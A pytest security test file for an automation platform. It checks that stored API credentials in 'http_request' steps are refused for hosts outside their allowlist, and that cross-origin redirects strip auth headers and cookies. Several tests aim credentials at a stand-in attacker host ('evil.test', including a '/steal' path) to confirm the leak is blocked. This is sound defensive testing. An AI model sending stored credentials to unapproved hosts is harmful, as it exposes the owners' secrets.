"""Sending a stored credential somewhere it does not belong, through ``http_request`` auth.

The owner of a fresh sign-up stores credentials; an API key with only ``agents:write`` and
``runs:execute`` (what an integration or an editor has) publishes ``http_request`` steps that
point them at a host of its choosing. Every host name resolves (through the egress guard's
resolver) to one local server the test allowlists, so the server sees whatever would have left
the platform.
"""

from __future__ import annotations

from collections.abc import Iterator

import pytest

from tests.integrations.llm_wire_servers import WireServer, wire_server
from tests.security.network import create_credential, one_step_graph, run_graph
from tests.services.runtime.conftest import V1

pytestmark = pytest.mark.usefixtures("worker")
SECRET = "sk-live-4f9c2a7e1b8d6053aa17"
HOSTS = ("api.allowed.test", "evil.test", "other.allowed.test")


@pytest.fixture
def site(egress_allow, fake_dns) -> Iterator[WireServer]:
    """One local server behind every test host name (and the only allowlisted address)."""
    egress_allow("127.0.0.1")
    fake_dns({host: [["127.0.0.1"]] for host in HOSTS})
    with wire_server() as srv:
        yield srv


@pytest.fixture
def integration(client, tenant) -> dict[str, str]:
    """Auth headers of an API key with ``agents:write`` + ``runs:execute`` (+ reads)."""
    scopes = ["agents:read", "agents:write", "runs:execute", "runs:read"]
    resp = client.post(f"{V1}/org/api-keys", json={"name": "CI", "scopes": scopes}, headers=tenant)
    assert resp.status_code == 201, resp.text
    return {"X-API-Key": resp.json()["key"]}


def api_key_credential(client, tenant, **extra) -> str:
    return create_credential(
        client, tenant, name="Partner API", kind="api_key", data={"api_key": SECRET}, **extra
    )


def http_graph(url: str, credential_id: str, placement: str = "bearer", name: str = "") -> dict:
    auth = {"credential_id": credential_id, "placement": placement, "name": name}
    return one_step_graph("http_request", {"method": "GET", "url": url, "auth": auth})


def leaked(site: WireServer) -> list[str]:
    """Every request the server received that carries the secret anywhere."""
    return [
        f"{r.method} {r.path}"
        for r in site.requests
        if SECRET in r.path or any(SECRET in v for v in r.headers.values())
    ]


@pytest.mark.parametrize(
    ("placement", "name"), [("bearer", ""), ("header", "X-Api-Key"), ("query", "key")]
)
def test_credential_is_refused_for_a_host_outside_its_allowed_hosts(
    client, tenant, integration, site, placement, name
):
    cid = api_key_credential(client, tenant, allowed_hosts=["api.allowed.test"])
    graph = http_graph(f"http://evil.test:{site.port}/steal", cid, placement, name)
    run = run_graph(client, integration, graph)
    assert run["status"] == "failed", run
    assert "credential not allowed for host evil.test" in run["steps"]["step_1"]["error"]
    assert site.requests == []
    assert SECRET not in str(run)


def test_credential_is_sent_to_its_allowed_host(client, tenant, integration, site):
    site.add_route("GET", "/items", body='{"items": []}')
    cid = api_key_credential(client, tenant, allowed_hosts=["*.allowed.test"])
    url = f"http://api.allowed.test:{site.port}/items"
    run = run_graph(client, integration, http_graph(url, cid))
    assert run["status"] == "succeeded", run["error"]
    assert site.requests[0].headers["authorization"] == f"Bearer {SECRET}"


def test_credential_without_allowed_hosts_cannot_be_used(client, tenant, integration, site):
    cid = api_key_credential(client, tenant)
    url = f"http://api.allowed.test:{site.port}/"
    run = run_graph(client, integration, http_graph(url, cid))
    assert run["status"] == "failed", run
    assert "allowed hosts" in run["steps"]["step_1"]["error"]
    assert site.requests == []


@pytest.mark.parametrize("provider", ["openai", "anthropic", "compat"])
def test_llm_provider_key_is_never_usable_by_http_request(
    client, tenant, integration, site, provider
):
    data = {"api_key": SECRET}
    if provider == "compat":
        data["base_url"] = f"http://api.allowed.test:{site.port}/v1"
    cid = create_credential(
        client, tenant, name="LLM", kind="llm_provider", provider=provider, data=data
    )
    url = f"http://api.allowed.test:{site.port}/"
    run = run_graph(client, integration, http_graph(url, cid))
    assert run["status"] == "failed", run
    assert "LLM provider" in run["steps"]["step_1"]["error"]
    assert site.requests == []


def test_llm_provider_key_cannot_be_given_allowed_hosts(client, tenant):
    body = {
        "name": "OpenAI", "kind": "llm_provider", "provider": "openai",
        "data": {"api_key": SECRET}, "allowed_hosts": ["evil.test"],
    }  # fmt: skip
    resp = client.post(f"{V1}/credentials", json=body, headers=tenant)
    assert resp.status_code == 422 and "LLM provider" in resp.json()["error"]["message"]
    cid = create_credential(
        client, tenant, name="OpenAI", kind="llm_provider", provider="openai",
        data={"api_key": SECRET},
    )  # fmt: skip
    patch = {"allowed_hosts": ["evil.test"]}
    resp = client.patch(f"{V1}/credentials/{cid}", json=patch, headers=tenant)
    assert resp.status_code == 422 and "LLM provider" in resp.json()["error"]["message"]


def test_only_admins_change_allowed_hosts(client, tenant, integration):
    cid = api_key_credential(client, tenant, allowed_hosts=["api.allowed.test"])
    patch = {"allowed_hosts": ["evil.test"]}
    resp = client.patch(f"{V1}/credentials/{cid}", json=patch, headers=integration)
    assert resp.status_code == 403, resp.text
    listed = client.get(f"{V1}/credentials", headers=tenant).json()
    assert listed[0]["allowed_hosts"] == ["api.allowed.test"]


@pytest.mark.parametrize(("placement", "name"), [("bearer", ""), ("header", "X-Api-Key")])
def test_cross_origin_redirect_drops_the_credential_and_cookies(
    client, tenant, integration, site, placement, name
):
    landing = f"http://evil.test:{site.port}/landing"
    site.add_route(
        "GET", "/start", status=302,
        headers={"location": landing, "set-cookie": "session=abc123; Path=/"},
    )  # fmt: skip
    site.add_route("GET", "/landing", body='{"ok": true}')
    cid = api_key_credential(client, tenant, allowed_hosts=["api.allowed.test"])
    graph = http_graph(f"http://api.allowed.test:{site.port}/start", cid, placement, name)
    run = run_graph(client, integration, graph)
    assert run["status"] == "succeeded", run["error"]
    first, second = site.requests
    assert first.path == "/start" and SECRET in str(first.headers)
    assert second.path == "/landing"
    assert second.headers["host"] == f"evil.test:{site.port}"
    assert leaked(site) == ["GET /start"]
    assert "authorization" not in second.headers and "cookie" not in second.headers


def test_same_origin_redirect_keeps_the_credential(client, tenant, integration, site):
    site.add_route("GET", "/old", status=301, headers={"location": "/new"})
    site.add_route("GET", "/new", body="{}")
    cid = api_key_credential(client, tenant, allowed_hosts=["api.allowed.test"])
    url = f"http://api.allowed.test:{site.port}/old"
    run = run_graph(client, integration, http_graph(url, cid))
    assert run["status"] == "succeeded", run["error"]
    assert leaked(site) == ["GET /old", "GET /new"]
